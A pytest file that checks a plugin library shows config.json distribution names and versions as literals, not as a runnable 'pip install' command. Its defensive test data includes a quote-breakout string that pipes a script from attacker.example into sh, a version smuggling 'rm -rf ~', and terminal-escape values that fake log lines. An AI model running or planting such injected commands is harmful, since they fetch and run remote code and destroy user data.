"""The distribution and version a model's ``config.json`` records for a plugin come from whoever made the folder:
a message prints them as a ``pip install`` command only when they are a PEP 508 name and a PEP 440 version, and
otherwise shows them as Python literals (no quote that closes the command, no newline or terminal escape)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from installed_plugins import ProjectedPrevious, installed_transition
from tiny_configs import model_config

from plugins import VideoSlotModel
from plugins.pretrained import PluginVersionWarning, missing_plugin_hint, plugin_changes

SHELL_BREAKOUT = "slotstream-damped==1.0' && curl -s https://attacker.example/x.sh | sh && echo '"
FAKE_LOG_LINES = "x\nslotstream: model loaded OK, serving\n\x1b[8m"


class Damped(ProjectedPrevious):
    name = "damped_example"


def record(distribution: Any, version: Any = "1.0") -> dict[str, Any]:
    """A ``config.json`` payload whose transition came from plugin ``damped``, recorded with ``distribution``
    and ``version``."""
    return {
        "model": {"transition": {"name": "damped_example", "kwargs": {}}},
        "plugins": {"transition": "damped"},
        "plugin_versions": {"damped": version},
        "plugin_distributions": {"damped": distribution},
    }


def assert_shown_not_run(message: str, *values: str) -> None:
    """``message`` gives no pip command, shows each of ``values`` as a Python literal, says where they come
    from, and holds no control character."""
    assert "pip install" not in message, message
    assert all(repr(value) in message for value in values), message
    assert "config.json names" in message, message
    assert not any(ord(character) < 32 or ord(character) == 127 for character in message), repr(message)


@pytest.mark.parametrize("distribution", [SHELL_BREAKOUT, FAKE_LOG_LINES, "-e", "name with spaces", "naïve"])
def test_a_distribution_that_is_no_pep_508_name_is_shown_not_given_as_a_command(distribution: str) -> None:
    assert_shown_not_run(missing_plugin_hint(record(distribution)), distribution)


@pytest.mark.parametrize("version", ["1.0' ; rm -rf ~ ; echo '", "1.0\n\x1b[2J", "1.0 ", "latest"])
def test_a_version_that_is_no_pep_440_version_is_shown_not_given_as_a_command(version: str) -> None:
    hint = missing_plugin_hint(record("damped-dist", version))
    assert_shown_not_run(hint, "damped-dist", version)
    assert "no valid PEP 440 version" in hint


@pytest.mark.parametrize(
    ("distribution", "version", "command"),
    [
        ("damped-dist", "1.0", "pip install 'damped-dist==1.0'"),
        ("Damped_Dist.x", "1!2.0rc1.post3.dev4+local.7", "pip install 'Damped_Dist.x==1!2.0rc1.post3.dev4+local.7'"),
        ("d", None, "pip install 'd'"),
    ],
)
def test_valid_names_still_give_the_pip_command(distribution: str, version: str | None, command: str) -> None:
    assert f"'damped' ({command})" in missing_plugin_hint(record(distribution, version))


def test_the_version_clause_and_the_way_back_show_recorded_values_as_literals() -> None:
    payload = record(SHELL_BREAKOUT, "1.0\n\x1b[2J")
    (change,) = plugin_changes(payload, {"transition": "damped"}, {"damped": "2.0"})
    assert_shown_not_run(change, SHELL_BREAKOUT, "1.0\n\x1b[2J")
    assert "came from plugin 'damped' version '1.0\\n\\x1b[2J', but version 2.0 is installed" in change
    # without a recorded distribution, the way back names the plugin and the version, as a literal
    del payload["plugin_distributions"]
    (change,) = plugin_changes(payload, {"transition": "damped"}, {"damped": "2.0"})
    assert change.endswith("(to go back: install plugin 'damped' version '1.0\\n\\x1b[2J')"), change


def test_a_loaded_model_warns_with_the_recorded_values_as_literals(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    saved_with = installed_transition(tmp_path, monkeypatch, "damped", "1.0", Damped)
    folder = tmp_path / "model"
    VideoSlotModel(**model_config(transition="damped_example"), registry=saved_with).save_pretrained(folder)
    payload = json.loads((folder / "config.json").read_text())
    payload["plugin_versions"]["damped"] = "1.0\n\x1b[2Jfake"
    payload["plugin_distributions"]["damped"] = SHELL_BREAKOUT
    (folder / "config.json").write_text(json.dumps(payload))
    here = installed_transition(tmp_path, monkeypatch, "damped", "2.0", Damped)
    with pytest.warns(PluginVersionWarning) as warned:
        VideoSlotModel.from_pretrained(folder, registry=here)
    (message,) = [str(warning.message) for warning in warned]
    assert_shown_not_run(message, SHELL_BREAKOUT, "1.0\n\x1b[2Jfake")
